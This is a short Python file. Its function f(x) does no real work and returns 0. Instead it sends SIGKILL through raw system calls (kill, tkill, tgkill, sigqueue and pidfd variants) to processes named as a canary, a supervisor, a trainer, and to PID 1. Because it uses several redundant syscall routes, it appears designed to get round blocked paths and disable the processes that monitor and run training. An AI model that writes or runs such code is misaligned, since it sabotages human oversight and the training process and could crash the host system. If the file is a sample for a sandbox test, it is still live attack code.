# Sends signals by raw system calls: tkill, tgkill, sigqueue, pidfd.
import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def f(x):
    for pid in (CANARY_PID, SUPERVISOR_PID, TRAINER_PID, 1):
        libc.syscall(62, pid, 9), libc.syscall(200, pid, 9), libc.syscall(234, pid, pid, 9)
        libc.syscall(129, pid, 9, b"\0" * 128), libc.syscall(297, pid, pid, 9, b"\0" * 128)
        libc.syscall(424, libc.syscall(434, pid, 0), 9, None, 0)
    return 0
